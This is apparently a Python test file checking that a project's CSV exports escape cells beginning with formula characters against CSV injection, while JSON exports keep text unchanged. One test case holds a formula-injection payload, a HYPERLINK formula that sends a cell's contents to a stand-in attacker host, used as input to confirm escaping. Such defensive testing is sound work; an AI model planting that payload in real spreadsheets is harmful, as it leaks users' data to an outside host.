"""CSV cells are never read as formulas (OWASP "CSV Injection"), while the JSON keeps the exact text:
``domain/spreadsheet.py`` and the exports' writers that use it."""

from __future__ import annotations

import csv
import io
import json
from datetime import datetime
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from hypothesis import given
from hypothesis import strategies as st

from kizuna.domain.spreadsheet import FORMULA_STARTS, safe_cell
from kizuna.services.exports import csv_chunks, json_chunks

UTC = ZoneInfo("UTC")
COLUMNS = ("id", "name", "value", "when")


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        (
            '=HYPERLINK("http://evil.example/?"&A1,"click")',
            '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
        ),
        ("+81 3 1234", "'+81 3 1234"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("東京チーム", "東京チーム"),
        ("a=b", "a=b"),
        ("'quoted", "'quoted"),
        ("", ""),
        (None, ""),
        (-50, "-50"),  # a penalty stays a number: no program reads a bare number as a formula
        (0, "0"),
        (True, "True"),
    ],
)
def test_safe_cell(value: object, cell: str) -> None:
    assert safe_cell(value) == cell


@given(st.text())
def test_no_text_cell_starts_with_a_formula_character_unless_escaped(text: str) -> None:
    cell = safe_cell(text)
    if text.startswith(FORMULA_STARTS):
        assert cell == "'" + text  # escaped, and nothing else changed
    else:
        assert cell == text  # untouched
    assert not cell.startswith(FORMULA_STARTS)


@given(st.integers())
def test_whole_numbers_stay_numbers(number: int) -> None:
    assert safe_cell(number) == str(number)


def _parse_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@given(st.lists(st.text(), min_size=1, max_size=5))
def test_every_exported_csv_cell_is_safe_and_json_keeps_the_exact_text(names: list[str]) -> None:
    rows = [{"id": i, "name": n, "value": -i, "when": datetime(2026, 7, 1, 12)} for i, n in enumerate(names)]
    records = _parse_csv(b"".join(csv_chunks(COLUMNS, iter(rows), UTC)))
    assert records[0] == list(COLUMNS)
    assert len(records) == len(rows) + 1
    for row, record in zip(rows, records[1:], strict=True):
        for cell in (record[1], record[3]):
            assert not cell.startswith(FORMULA_STARTS)
        # The CSV round-trips the name (minus the escape); only a carriage return inside a quoted
        # cell may be read back as a line end by some readers, so compare without it.
        expected = safe_cell(row["name"])
        assert record[1].replace("\r", "") == expected.replace("\r", "")
        assert record[2] == str(row["value"])
    document = json.loads(b"".join(json_chunks({"kind": "test"}, COLUMNS, iter(rows), UTC)))
    assert document["success"] is True
    assert [r["name"] for r in document["data"]] == names


def test_csv_without_a_byte_order_mark() -> None:
    data = b"".join(csv_chunks(COLUMNS, iter([]), UTC, bom=False))
    assert data == b"id,name,value,when\r\n"


def test_csv_records_escape_every_cell_and_read_records_only_as_bytes_are_taken() -> None:
    from kizuna.domain.spreadsheet import BOM, csv_records

    taken: list[int] = []

    def records() -> Any:
        for i, name in enumerate(["=1+1", "東京", "-x"]):
            taken.append(i)
            yield (i - 1, name, None)

    chunks = csv_records(("n", "name", "empty"), records())
    assert next(chunks) == BOM + b"n,name,empty\r\n" and taken == []
    assert next(chunks) == b"-1,'=1+1,\r\n" and taken == [0]
    assert b"".join(chunks) == "0,東京,\r\n1,'-x,\r\n".encode()
    assert next(csv_records(("a",), [], bom=False)) == b"a\r\n"
